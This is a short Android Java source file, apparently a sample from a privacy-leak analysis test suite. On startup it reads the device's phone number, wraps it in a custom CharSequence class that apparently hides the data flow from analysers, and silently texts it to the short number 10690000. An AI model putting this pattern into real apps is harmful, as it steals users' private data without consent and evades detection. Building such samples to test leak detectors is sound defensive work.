package cn.privlens.suite.own_text_class_hides;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        CharSequence tail = new Tail(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        SmsManager.getDefault().sendTextMessage("10690000", null, tail.toString(), null, null);
    }
}
